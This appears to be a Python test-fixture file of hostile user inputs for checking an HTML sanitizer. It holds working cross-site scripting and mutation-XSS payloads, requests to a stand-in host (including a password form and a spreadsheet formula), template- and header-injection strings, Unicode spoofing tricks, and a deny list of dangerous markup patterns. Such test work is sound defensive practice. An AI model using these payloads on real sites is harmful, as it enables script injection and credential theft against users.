"""Texts that people with bad intent or odd keyboards send. Every place that shows what people wrote is tried with all of them.

Each script payload calls `alert`, asks a host outside, or both; none of that may happen, and `LEAKS` names what may not be in the page.
"""

from dataclasses import dataclass

ALERT = "alert('wbl-hostile')"
CANARY_HOST = "canary.invalid"


@dataclass(frozen=True)
class Hostile:
    """`text` is what is sent; `shows` are words that must still be readable afterwards, where there are any; `is_refused` where no text remains or it cannot be stored."""

    name: str
    text: str
    shows: str = ""
    is_refused: bool = False


SCRIPTS = (
    Hostile("script", f"<p>before</p><script>{ALERT}</script><p>after</p>", "before"),
    Hostile("script with odd case", f"<p>kept</p><ScRiPt >{ALERT}</sCrIpT >", "kept"),
    Hostile("script alone", f"<script>{ALERT}</script>", is_refused=True),
    Hostile("picture", f'<img src=x onerror="{ALERT}">', is_refused=True),
    Hostile("picture elsewhere", f"<p>words</p><img src=https://{CANARY_HOST}/pixel.gif>", "words"),
    Hostile("vector image", f'<p>words</p><svg onload="{ALERT}"><script>{ALERT}</script></svg>', "words"),
    Hostile(
        "vector animation",
        f"<p>words</p><svg><a><animate attributeName=href values=javascript:{ALERT} /><text>x</text></a></svg>",
        "words",
    ),
    Hostile(
        "mathematics", f'<p>words</p><math><mi xlink:href="data:x,<script>{ALERT}</script>">x</mi></math>', "words"
    ),
    Hostile(
        "mathematics and style",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={ALERT}>"></table></mtext></math><p>words</p>',
        "words",
    ),
    Hostile(
        "noscript", f'<noscript><p title="</noscript><img src=x onerror={ALERT}>"></noscript><p>words</p>', "words"
    ),
    Hostile("template", f"<template><img src=x onerror={ALERT}></template><p>words</p>", "words"),
    Hostile("link with script", f'<p><a href="javascript:{ALERT}">press me</a></p>', "press me"),
    Hostile("link with hidden script", f'<p><a href="jav&#x09;ascript:{ALERT}">press me</a></p>', "press me"),
    Hostile("link with control characters", f'<p><a href="\x01javascript:{ALERT}">press me</a></p>', "press me"),
    Hostile("link with data", f'<p><a href="data:text/html,<script>{ALERT}</script>">press me</a></p>', "press me"),
    Hostile("link with vbscript", '<p><a href="vbscript:msgbox(1)">press me</a></p>', "press me"),
    Hostile("handler", f'<p onmouseover="{ALERT}" onfocus="{ALERT}" tabindex=1 autofocus>hover</p>', "hover"),
    Hostile("details", f"<details open ontoggle={ALERT}><summary>more</summary>words</details>", "words"),
    Hostile(
        "frame", f'<p>words</p><iframe src="javascript:{ALERT}" srcdoc="<script>{ALERT}</script>"></iframe>', "words"
    ),
    Hostile(
        "object",
        f'<p>words</p><object data="https://{CANARY_HOST}/x.swf"></object><embed src="https://{CANARY_HOST}/x">',
        "words",
    ),
    Hostile("style", f"<p>words</p><style>body{{background:url(https://{CANARY_HOST}/css)}}</style>", "words"),
    Hostile(
        "style attribute",
        f'<p style="position:fixed;inset:0;background:url(https://{CANARY_HOST}/b)">words</p>',
        "words",
    ),
    Hostile("style sheet link", f'<p>words</p><link rel=stylesheet href="https://{CANARY_HOST}/x.css">', "words"),
    Hostile("base", f'<base href="https://{CANARY_HOST}/"><p>words</p>', "words"),
    Hostile("refresh", f'<meta http-equiv=refresh content="0;url=https://{CANARY_HOST}/"><p>words</p>', "words"),
    Hostile(
        "form",
        f'<p>words</p><form action="https://{CANARY_HOST}/"><input name=password><button>Sign in</button></form>',
        "words",
    ),
    Hostile("form elsewhere", f'<p>words</p><button form=x formaction="javascript:{ALERT}">press</button>', "words"),
    Hostile(
        "video",
        f"<p>words</p><video><source onerror={ALERT}></video><audio src=https://{CANARY_HOST}/a autoplay></audio>",
        "words",
    ),
    Hostile("comment trick", f"<p>words</p><!--><img src=x onerror={ALERT}>-->", "words"),
    Hostile("declaration trick", f"<p>words</p><![CDATA[><img src=x onerror={ALERT}>]]>", "words"),
    Hostile("closed attribute", f'"><script>{ALERT}</script><p>words</p>', "words"),
    Hostile("closed text box", f"</textarea><script>{ALERT}</script><p>words</p>", "words"),
    Hostile("closed title", f"</title><script>{ALERT}</script><p>words</p>", "words"),
    Hostile("closed script", f"</script><script>{ALERT}</script><p>words</p>", "words"),
    Hostile("entities", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "alert(1)"),
    Hostile("double entities", "<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>", "img src=x"),
    Hostile("plain text with angle brackets", "if a <b then c > d & e", "then c"),
    Hostile("template language", "<p>{{ settings.SECRET_KEY }} {% load static %} ${7*7} #{7*7}</p>", "SECRET_KEY"),
    Hostile("id of the page", '<p id="main" name="cookie" class="topbar">words</p>', "words"),
    Hostile("custom element", f"<x-evil onclick={ALERT}>words</x-evil>", "words"),
)

SHAPES = (
    Hostile("ten thousand deep", "<blockquote>" * 10_000 + "<p>deep</p>" + "</blockquote>" * 10_000, "deep"),
    Hostile("ten thousand lists deep", "<ul><li>" * 10_000 + "deep", "deep"),
    Hostile("wide table", "<table><tr><td colspan=100000 rowspan=65534>cell</td></tr></table>", "cell"),
    Hostile("unclosed", "<p><strong><em>words", "words"),
    Hostile("crossed", "<b><i>wo</b>rds</i>", "rds"),
    Hostile(
        "pasted from a word processor",
        "<html xmlns:o='urn:schemas-microsoft-com:office:office'><head><meta name=Generator content='Microsoft Word 15'><style>p.MsoNormal{margin:0}</style>"
        "<!--[if gte mso 9]><xml><o:OfficeDocumentSettings/></xml><![endif]--></head><body lang=EN-US style='tab-interval:.5in'><!--StartFragment-->"
        "<p class=MsoNormal style='mso-margin-top-alt:auto'><b><span style='font-family:Calibri;mso-fareast-language:EN-US'>Site visit<o:p></o:p></span></b></p>"
        "<p class=MsoListParagraph style='text-indent:-.25in'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp;&nbsp; </span></span><![endif]>Bring a badge<o:p></o:p></p>"
        "<table class=MsoTableGrid border=1><tr><td width=208 valign=top><p class=MsoNormal>Monday</p></td><td><p class=MsoNormal>Lab</p></td></tr></table>"
        "<p class=MsoNormal><o:p>&nbsp;</o:p></p><!--EndFragment--></body></html>",
        "Bring a badge",
    ),
)

CHARACTERS = (
    Hostile("null", "words\x00words", is_refused=True),
    Hostile("lone surrogate", "words \ud800 words", is_refused=True),
    Hostile("control characters", "one\x01\x02\x1b[31mtwo\x7f", "two"),
    Hostile("right-to-left override", "the file is called \u202egpj.exe and ends here", "ends here"),
    Hostile("isolates", "\u2067words\u2069 after", "after"),
    Hostile("zero width", "pass\u200bword \u200d\u2060\ufeff joined", "joined"),
    Hostile("zero width alone", "\u200b\u200d\ufeff", is_refused=True),
    Hostile("spaces alone", "&nbsp; \u2003 \u3000", is_refused=True),
    Hostile("heap of accents", "Z" + "\u0301\u0302\u0303" * 200 + " words", "words"),
    Hostile("long word", "x" * 5_000 + " words", "words"),
    Hostile("emoji", "👩🏽‍🏫 teaches 🇺🇸 words", "teaches"),
    Hostile("other scripts", "日本語 العربية ไทย words", "ไทย"),
    Hostile("replacement and private use", "\ufffd \ue000 words", "words"),
    Hostile("formula", '=HYPERLINK("https://canary.invalid/","press") words', "press"),
    Hostile("newline in a header", "words\r\nBcc: everyone@example.org", "everyone"),
)

HOSTILE_TEXTS: tuple[Hostile, ...] = SCRIPTS + SHAPES + CHARACTERS
STORABLE_TEXTS: tuple[Hostile, ...] = tuple(each for each in HOSTILE_TEXTS if not each.is_refused)

# What may be in no answer, whatever was sent: each would run, load or frame something.
LEAKS = (
    "<script>alert",
    "onerror=",
    "onload=",
    "javascript:",
    "<iframe",
    "<object",
    "<embed",
    "<svg onload",
    "srcdoc=",
    "<base",
    "http-equiv=refresh",
    "vbscript:",
    "ontoggle=",
    "formaction=",
)
